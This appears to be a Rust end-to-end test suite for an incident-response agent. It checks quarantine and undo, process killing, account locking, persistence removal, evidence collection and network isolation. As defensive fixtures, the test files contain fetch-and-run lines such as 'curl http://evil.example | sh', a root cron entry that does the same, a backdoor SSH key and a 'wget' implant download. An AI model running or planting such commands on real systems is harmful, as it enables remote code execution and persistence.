//! Remediation on the real control plane: a quarantined file comes back from the agent's
//! journal exactly as it was, a process tree is stopped, and a remediation sent twice (the
//! operator killed right after dispatching it) acts once.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use e2e::fixture::host_root;
use e2e::lr::{self, Cmd};
use kube::Client;
use liveresponse_api::crd::{CommandPhase, SessionPhase};

use crate::Env;

const T: Duration = Duration::from_secs(60);

async fn setup(env: &Env, ns: &str, device: &str, root: &std::path::Path) -> Result<Client> {
    crate::files::setup(env, ns, device, root, "", &[]).await
}

/// Grants the liveresponse-responder role to the advanced analysts of `ns`.
fn bind_responders(env: &Env, ns: &str) -> Result<()> {
    let binding = format!(
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: responders, namespace: {ns}}}\nroleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: liveresponse-responder}}\nsubjects:\n- {{apiGroup: rbac.authorization.k8s.io, kind: Group, name: \"liveresponse:analysts-advanced\"}}\n"
    );
    env.cluster
        .kubectl_ok("admin", &["apply", "-f", "-"], Some(&binding))?;
    Ok(())
}

async fn json(
    client: &Client,
    ns: &str,
    name: &str,
    verb: &str,
    args: &[&str],
) -> Result<serde_json::Value> {
    let c = Cmd::new("s", verb, args)
        .json()
        .run(client, ns, name)
        .await?;
    lr::succeeded(&c)?;
    lr::records(&c)?.into_iter().next().context("no record")
}

/// remediate file, then undo: the same bytes, mode, owner and modification time; a basic
/// analyst is refused by admission.
pub async fn a_quarantined_file_comes_back_exactly(env: &'static Env) -> Result<()> {
    let (ns, device) = ("lr-remediate", "infected");
    let root = host_root("remediate")?;
    std::fs::create_dir_all(root.join("srv"))?;
    let f = root.join("srv/dropper.sh");
    std::fs::write(&f, b"#!/bin/sh\ncurl http://evil.example | sh\n")?;
    // Owner first: a chown clears the set-user-id bit the mode then sets.
    std::os::unix::fs::chown(&f, Some(65534), Some(65534))?;
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o4751))?;
    let old = std::time::UNIX_EPOCH + Duration::new(1_700_000_000, 987_654_321);
    std::fs::File::options().write(true).open(&f)?.set_times(
        std::fs::FileTimes::new()
            .set_modified(old)
            .set_accessed(old),
    )?;
    let before = std::fs::metadata(&f)?;
    let client = setup(env, ns, device, &root).await?;

    let basic = env.cluster.client("analyst-basic").await?;
    let refused = Cmd::new("s", "remediate", &["file", "/srv/dropper.sh"])
        .create(&basic, ns, "basic-remediate")
        .await;
    ensure!(
        refused.is_err_and(|e| format!("{e:#}").contains("liveresponse-advanced")),
        "a basic analyst's remediate was not refused by admission"
    );

    let r = json(&client, ns, "q", "remediate", &["file", "/srv/dropper.sh"]).await?;
    let id = r["quarantineId"]
        .as_str()
        .context("no quarantine id")?
        .to_string();
    ensure!(!f.exists(), "the file is still there after remediate");
    let listed = json(&client, ns, "l", "remediate", &["list"]).await?;
    ensure!(
        listed["quarantineId"] == id.as_str(),
        "remediate list: {listed}"
    );

    let u = json(&client, ns, "u", "undo", &["file", &id]).await?;
    ensure!(u["action"] == "restored", "{u}");
    let after = std::fs::metadata(&f)?;
    ensure!(
        std::fs::read(&f)? == b"#!/bin/sh\ncurl http://evil.example | sh\n",
        "other bytes came back"
    );
    ensure!(
        after.mode() == before.mode()
            && (after.uid(), after.gid()) == (before.uid(), before.gid())
            && (after.mtime(), after.mtime_nsec()) == (before.mtime(), before.mtime_nsec()),
        "mode, owner or mtime differ: {:o} {}:{} {}.{} (was {:o} {}:{} {}.{})",
        after.mode(),
        after.uid(),
        after.gid(),
        after.mtime(),
        after.mtime_nsec(),
        before.mode(),
        before.uid(),
        before.gid(),
        before.mtime(),
        before.mtime_nsec()
    );
    eprintln!(
        "remediate: {id} quarantined and restored with mode {:o}, owner 65534, mtime kept",
        after.mode() & 0o7777
    );
    env.stack.kill_agent(ns, device);
    let _ = std::fs::remove_dir_all(&root);
    Ok(())
}

/// remediate process stops the tree the test started (its root and two children), and
/// -quarantine moves the root's executable into the journal.
pub async fn a_process_tree_is_stopped_and_its_executable_quarantined(
    env: &'static Env,
) -> Result<()> {
    let (ns, device) = ("lr-remediate-proc", "miner");
    let root = host_root("remediate-proc")?;
    std::fs::create_dir_all(root.join("opt"))?;
    let exe = root.join("opt/miner");
    // A shell under another name: the tree's root, with two sleeps below it.
    std::fs::copy("/bin/sh", &exe)?;
    let client = setup(env, ns, device, &root).await?;
    let mut tree = std::process::Command::new(&exe)
        .args(["-c", "sleep 30051 & sleep 30052 & wait"])
        .spawn()?;
    let sleeps = || {
        std::fs::read_dir("/proc")
            .into_iter()
            .flatten()
            .filter_map(|e| e.ok())
            .filter_map(|e| std::fs::read_to_string(e.path().join("cmdline")).ok())
            .filter(|c| c == "sleep\x0030051\x00" || c == "sleep\x0030052\x00")
            .count()
    };
    let t = Instant::now();
    while sleeps() < 2 {
        ensure!(t.elapsed() < T, "the tree did not start");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let root_pid = tree.id().to_string();
    let r = json(
        &client,
        ns,
        "kill",
        "remediate",
        &["process", &root_pid, "-quarantine"],
    )
    .await?;
    ensure!(r["action"] == "killed", "{r}");
    let _ = tree.wait();
    let t = Instant::now();
    while sleeps() > 0 {
        ensure!(t.elapsed() < T, "processes of the tree still run");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    ensure!(!exe.exists(), "-quarantine left the executable in place");
    let c = lr::wait_final(&client, ns, "kill", T).await?;
    let warnings = c
        .status
        .and_then(|s| s.output)
        .map(|o| o.warnings)
        .unwrap_or_default();
    ensure!(
        warnings.iter().any(|w| w.contains("stopped")),
        "no note of what was stopped: {warnings:?}"
    );
    env.stack.kill_agent(ns, device);
    let _ = std::fs::remove_dir_all(&root);
    Ok(())
}

/// The operator dies right after sending a remediation; its successor sends it again, and
/// the agent's journal still holds one entry for it.
pub async fn a_remediation_sent_twice_acts_once(env: &'static Env) -> Result<()> {
    let (ns, device) = ("lr-remediate-once", "replayed");
    let root = host_root("remediate-once")?;
    std::fs::create_dir_all(root.join("tmp"))?;
    for i in 0..3 {
        std::fs::write(
            root.join(format!("tmp/implant-{i}")),
            format!("implant {i}\n"),
        )?;
    }
    let client = setup(env, ns, device, &root).await?;
    Cmd::new("s", "remediate", &["file", "/tmp/implant-1"])
        .create(&client, ns, "once")
        .await?;
    lr::wait_phase(&client, ns, "once", T, |p| {
        p != CommandPhase::Pending && p != CommandPhase::Queued
    })
    .await?;
    env.stack.kill_operator();
    env.stack.start_operator()?;
    let c = lr::wait_final(&client, ns, "once", Duration::from_secs(120)).await?;
    lr::succeeded(&c)?;
    let entries: Vec<_> =
        std::fs::read_dir(env.stack.agent_dir(ns, device).join("journal/entries"))?
            .filter_map(|e| e.ok())
            .filter(|e| e.path().extension().is_some_and(|x| x == "json"))
            .collect();
    ensure!(
        entries.len() == 1,
        "the journal has {} entries",
        entries.len()
    );
    ensure!(!root.join("tmp/implant-1").exists(), "not quarantined");
    ensure!(
        root.join("tmp/implant-0").exists() && root.join("tmp/implant-2").exists(),
        "others touched"
    );
    env.stack.kill_agent(ns, device);
    let _ = std::fs::remove_dir_all(&root);
    Ok(())
}

fn sh(args: &[&str], stdin: Option<&str>) -> Result<String> {
    use std::io::Write;
    let mut child = std::process::Command::new(args[0])
        .args(&args[1..])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .with_context(|| format!("{args:?}"))?;
    if let Some(text) = stdin
        && let Some(mut i) = child.stdin.take()
    {
        i.write_all(text.as_bytes())?;
    }
    let out = child.wait_with_output()?;
    ensure!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

fn shadow_of(user: &str) -> Result<String> {
    std::fs::read_to_string("/etc/shadow")?
        .lines()
        .find(|l| l.starts_with(&format!("{user}:")))
        .map(str::to_string)
        .context("no shadow line")
}

/// remediate user locks an account this test creates on this machine (`passwd -S` shows
/// it locked) and undo restores its shadow line exactly; root is refused; an advanced
/// analyst needs the responder role for it.
pub async fn an_account_is_locked_and_restored_by_a_responder(env: &'static Env) -> Result<()> {
    let (ns, device) = ("lr-accounts", "this-host");
    let user = "lr-e2e-victim";
    let _ = sh(&["userdel", user], None);
    sh(&["useradd", "-M", "-s", "/bin/sh", user], None)?;
    let result = async {
        sh(&["chpasswd"], Some(&format!("{user}:Correct-Horse-1\n")))?;
        let before = shadow_of(user)?;
        let status = sh(&["passwd", "-S", user], None)?;
        ensure!(status.split_whitespace().nth(1) == Some("P"), "{status}");
        let client = setup(env, ns, device, std::path::Path::new("/")).await?;

        // Without the responder role, admission refuses it.
        let refused = Cmd::new("s", "remediate", &["user", user])
            .create(&client, ns, "lock-refused")
            .await;
        ensure!(
            refused.is_err_and(|e| format!("{e:#}").contains("liveresponse-responder")),
            "an advanced analyst without the responder role could lock an account"
        );
        bind_responders(env, ns)?;

        let r = json(&client, ns, "lock", "remediate", &["user", user]).await?;
        ensure!(r["action"] == "locked", "{r}");
        let status = sh(&["passwd", "-S", user], None)?;
        ensure!(
            status.split_whitespace().nth(1) == Some("L"),
            "passwd -S does not show the account locked: {status}"
        );
        eprintln!(
            "accounts: after remediate user, passwd -S says: {}",
            status.trim()
        );
        let c = Cmd::new("s", "remediate", &["user", "root"])
            .run(&client, ns, "lock-root")
            .await?;
        ensure!(
            lr::error(&c).is_some_and(|e| e.message.contains("root account")),
            "root was not refused: {:?}",
            c.status
        );
        let u = json(&client, ns, "unlock", "undo", &["user", user]).await?;
        ensure!(u["action"] == "restored", "{u}");
        ensure!(
            shadow_of(user)? == before,
            "the shadow line did not come back exactly"
        );
        let status = sh(&["passwd", "-S", user], None)?;
        ensure!(status.split_whitespace().nth(1) == Some("P"), "{status}");
        Ok(())
    }
    .await;
    env.stack.kill_agent(ns, device);
    let _ = sh(&["userdel", user], None);
    result
}

/// A cron entry, a systemd timer and an authorized_keys line the test installs under the
/// host root are removed, and undo puts each file back byte for byte, with its mode and
/// modification time.
pub async fn persistence_entries_are_removed_and_restored(env: &'static Env) -> Result<()> {
    let (ns, device) = ("lr-remediate-persist", "persisted");
    let root = host_root("remediate-persist")?;
    let files = [
        (
            "etc/cron.d/evil",
            "SHELL=/bin/sh\n*/5 * * * * root curl -s http://evil.example/x | sh\n",
            0o644,
        ),
        (
            "root/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3good admin@corp\nssh-ed25519 AAAAC3evil backdoor@evil\n",
            0o600,
        ),
        (
            "etc/systemd/system/evil.timer",
            "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n",
            0o644,
        ),
        (
            "etc/systemd/system/miner.service",
            "[Service]\nExecStart=/opt/x/miner\n[Install]\nWantedBy=multi-user.target\n",
            0o644,
        ),
    ];
    let old = std::time::UNIX_EPOCH + Duration::new(1_650_000_000, 5);
    for (rel, text, mode) in files {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().context("parent")?)?;
        std::fs::write(&p, text)?;
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode))?;
        std::fs::File::options()
            .write(true)
            .open(&p)?
            .set_times(std::fs::FileTimes::new().set_modified(old))?;
    }
    let wants = root.join("etc/systemd/system/timers.target.wants");
    std::fs::create_dir_all(&wants)?;
    std::os::unix::fs::symlink("/etc/systemd/system/evil.timer", wants.join("evil.timer"))?;
    let multi = root.join("etc/systemd/system/multi-user.target.wants");
    std::fs::create_dir_all(&multi)?;
    std::os::unix::fs::symlink(
        "/etc/systemd/system/miner.service",
        multi.join("miner.service"),
    )?;
    let client = setup(env, ns, device, &root).await?;

    let steps = [
        (
            "cron",
            "scheduledtask",
            "/etc/cron.d/evil:2",
            "etc/cron.d/evil",
        ),
        (
            "key",
            "startupitem",
            "/root/.ssh/authorized_keys:2",
            "root/.ssh/authorized_keys",
        ),
        (
            "timer",
            "scheduledtask",
            "evil.timer",
            "etc/systemd/system/evil.timer",
        ),
        (
            "service",
            "service",
            "miner",
            "etc/systemd/system/miner.service",
        ),
    ];
    for (name, kind, entity, rel) in steps {
        let before = std::fs::read(root.join(rel))?;
        let r = json(
            &client,
            ns,
            &format!("rm-{name}"),
            "remediate",
            &[kind, entity],
        )
        .await?;
        let after = std::fs::read(root.join(rel)).unwrap_or_default();
        ensure!(
            after != before,
            "remediate {kind} {entity} changed nothing: {r}"
        );
        if kind == "service" {
            ensure!(
                std::fs::symlink_metadata(multi.join("miner.service")).is_err(),
                "the service's enablement link is still there: {r}"
            );
        }
        let u = json(
            &client,
            ns,
            &format!("undo-{name}"),
            "undo",
            &[kind, entity],
        )
        .await?;
        ensure!(u["action"] == "restored", "{u}");
        let meta = std::fs::metadata(root.join(rel))?;
        ensure!(
            std::fs::read(root.join(rel))? == before,
            "undo {kind} {entity}: other bytes"
        );
        ensure!(
            (meta.mtime(), meta.mtime_nsec()) == (1_650_000_000, 5),
            "undo {kind} {entity}: mtime {}.{}",
            meta.mtime(),
            meta.mtime_nsec()
        );
    }
    ensure!(
        std::fs::read_link(wants.join("evil.timer")).is_ok(),
        "the timer's enablement link did not come back"
    );
    ensure!(
        std::fs::read_link(multi.join("miner.service")).is_ok(),
        "the service's enablement link did not come back"
    );
    env.stack.kill_agent(ns, device);
    let _ = std::fs::remove_dir_all(&root);
    Ok(())
}

/// collect: the package downloads through the file API, and every sha256 of its manifest
/// matches the entry it names.
pub async fn a_collected_package_matches_its_manifest(env: &'static Env) -> Result<()> {
    let (ns, device) = ("lr-collect", "collected");
    let root = host_root("collect")?;
    for (p, text) in [
        ("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
        ("etc/hostname", "collected\n"),
        ("var/log/auth.log", "sshd[7]: Accepted publickey for root\n"),
        ("root/.bash_history", "wget http://evil.example/implant\n"),
    ] {
        let f = root.join(p);
        std::fs::create_dir_all(f.parent().context("parent")?)?;
        std::fs::write(f, text)?;
    }
    let client = setup(env, ns, device, &root).await?;
    let c = Cmd::new("s", "collect", &[])
        .run(&client, ns, "package")
        .await?;
    lr::succeeded(&c)?;
    let file = c.status.and_then(|s| s.file).context("no status.file")?;
    let dir = host_root("collect-download")?;
    let dest = dir.join("package.tar.gz");
    let dest_s = dest.to_string_lossy().into_owned();
    let (ok, _, err) = lr::cli(
        &env.cluster,
        "analyst-advanced",
        &["-n", ns, "download", "package", "-o", &dest_s],
    )?;
    ensure!(ok, "download failed: {err}");
    let out = dir.join("x");
    std::fs::create_dir_all(&out)?;
    sh(
        &["tar", "-xzf", &dest_s, "-C", &out.to_string_lossy()],
        None,
    )?;
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("manifest.json"))?)?;
    let entries = manifest["entries"].as_array().context("no entries")?;
    ensure!(entries.len() >= 8, "a thin package: {manifest}");
    for e in entries {
        let name = e["name"].as_str().context("name")?;
        let data = std::fs::read(out.join(name)).with_context(|| name.to_string())?;
        use sha2::Digest;
        ensure!(
            e["sha256"] == hex::encode(sha2::Sha256::digest(&data)),
            "{name}: its sha256 is not the manifest's"
        );
    }
    ensure!(
        std::fs::read_to_string(out.join("histories/root/.bash_history"))?.contains("evil.example"),
        "the shell history is not in the package"
    );
    eprintln!(
        "collect: {} entries, {} bytes, sha256 {}; every manifest digest matches",
        entries.len(),
        file.size,
        file.sha256
    );
    env.stack.kill_agent(ns, device);
    let _ = std::fs::remove_dir_all(&root);
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}

/// Runs `ip ARGS`, failing with its message.
fn ip(args: &[&str]) -> Result<()> {
    sh(&[&["ip"], args].concat(), None).map(|_| ())
}

/// Whether a TCP connection from inside `netns` to `addr` opens within 3 s.
fn connects_from(netns: &str, addr: &str) -> bool {
    let (host, port) = addr.rsplit_once(':').unwrap_or((addr, "0"));
    std::process::Command::new("ip")
        .args(["netns", "exec", netns, "timeout", "3", "bash", "-c"])
        .arg(format!("exec 3<>/dev/tcp/{host}/{port}"))
        .status()
        .is_ok_and(|s| s.success())
}

/// isolate inside a network namespace the test creates, with the agent running in it:
/// the agent stays connected and answers, a connection to another listener is cut, the
/// Device's status says isolated; release opens it again. Needs the responder role.
pub async fn isolation_keeps_only_the_gateway(env: &'static Env) -> Result<()> {
    ensure!(
        std::process::Command::new("nft")
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success()),
        "nft is missing: isolate needs nftables (.ci/run installs it; apt-get install nftables)"
    );
    let (ns, device) = ("lr-isolate", "isolated");
    let netns = "lr-iso";
    let _ = ip(&["netns", "del", netns]);
    ip(&["netns", "add", netns])?;
    let result = async {
        ip(&[
            "link", "add", "lr-iso-h", "type", "veth", "peer", "name", "lr-iso-n",
        ])?;
        ip(&["link", "set", "lr-iso-n", "netns", netns])?;
        ip(&["addr", "add", "10.254.252.1/30", "dev", "lr-iso-h"])?;
        ip(&["link", "set", "lr-iso-h", "up"])?;
        for cmd in [
            vec!["addr", "add", "10.254.252.2/30", "dev", "lr-iso-n"],
            vec!["link", "set", "lr-iso-n", "up"],
            vec!["link", "set", "lo", "up"],
        ] {
            ip(&[&["netns", "exec", netns, "ip"], cmd.as_slice()].concat())?;
        }
        let gateway: std::net::SocketAddr = env
            .stack
            .gateway()?
            .trim_start_matches("https://")
            .parse()?;
        let proxy = e2e::proxy::TcpProxy::start_on("10.254.252.1:0".parse()?, gateway).await?;
        // Another service on the host that the device can reach until it is isolated.
        let other = std::net::TcpListener::bind("10.254.252.1:0")?;
        let other_addr = other.local_addr()?.to_string();
        std::thread::spawn(move || for _ in other.incoming() {});

        env.stack.tenant(ns, "")?;
        let root = host_root("isolate")?;
        std::fs::write(root.join("evidence.txt"), "still reachable\n")?;
        env.stack.start_agent_in(
            ns,
            device,
            &root,
            &proxy.url(),
            Some(netns),
            &["--gateway-name", "127.0.0.1"],
        )?;
        env.stack.wait_device(ns, device, true, T)?;
        let client = env.cluster.client("analyst-advanced").await?;
        lr::open_session(&client, ns, "s", device, "analyst-advanced", None).await?;
        lr::wait_session(&client, ns, "s", SessionPhase::Connected, T).await?;
        ensure!(
            connects_from(netns, &other_addr),
            "no connection before isolation"
        );

        let refused = Cmd::new("s", "isolate", &[])
            .create(&client, ns, "iso-refused")
            .await;
        ensure!(
            refused.is_err_and(|e| format!("{e:#}").contains("liveresponse-responder")),
            "an advanced analyst without the responder role could isolate"
        );
        bind_responders(env, ns)?;

        let r = json(&client, ns, "iso", "isolate", &[]).await?;
        ensure!(r["state"] == "isolated", "{r}");
        ensure!(
            !connects_from(netns, &other_addr),
            "a connection to another listener still opens while isolated"
        );
        let d = json(&client, ns, "dir-isolated", "dir", &["/"]).await?;
        ensure!(d["name"] == "evidence.txt", "dir while isolated: {d}");
        let devices: kube::Api<liveresponse_api::crd::Device> =
            kube::Api::namespaced(env.cluster.client("admin").await?, ns);
        let isolation = e2e::eventually("the Device to say isolated", T, || async {
            let dev = devices.get(device).await?;
            Ok(dev.status.and_then(|s| s.isolation))
        })
        .await?;
        ensure!(
            isolation.by.starts_with("analyst-advanced (command "),
            "the Device does not say who isolated it: {isolation:?}"
        );
        eprintln!("isolate: {}", r["message"]);

        // A reboot empties the kernel's rules; the agent applies its record again when it
        // starts, before anything else.
        ip(&[
            "netns",
            "exec",
            netns,
            "nft",
            "delete",
            "table",
            "inet",
            "liveresponse_isolation",
        ])?;
        ensure!(
            connects_from(netns, &other_addr),
            "deleting the table did not open the network (the test's reboot stand-in)"
        );
        env.stack.kill_agent(ns, device);
        env.stack.start_agent_in(
            ns,
            device,
            &root,
            &proxy.url(),
            Some(netns),
            &["--gateway-name", "127.0.0.1"],
        )?;
        env.stack.wait_device(ns, device, true, T)?;
        lr::wait_session(&client, ns, "s", SessionPhase::Connected, T).await?;
        ensure!(
            !connects_from(netns, &other_addr),
            "the isolation was not applied again when the agent started"
        );
        let d = json(&client, ns, "dir-restarted", "dir", &["/"]).await?;
        ensure!(d["name"] == "evidence.txt", "dir after the restart: {d}");
        eprintln!("isolate: applied again at agent start; the agent reconnected through it");

        let r = json(&client, ns, "rel", "release", &[]).await?;
        ensure!(r["state"] == "released", "{r}");
        ensure!(
            connects_from(netns, &other_addr),
            "no connection after release"
        );
        e2e::eventually("the Device to say not isolated", T, || async {
            let dev = devices.get(device).await?;
            Ok(dev
                .status
                .is_some_and(|s| s.isolation.is_none())
                .then_some(()))
        })
        .await?;
        let _ = std::fs::remove_dir_all(&root);
        Ok(())
    }
    .await;
    env.stack.kill_agent(ns, device);
    let _ = ip(&["netns", "del", netns]);
    let _ = ip(&["link", "del", "lr-iso-h"]);
    result
}
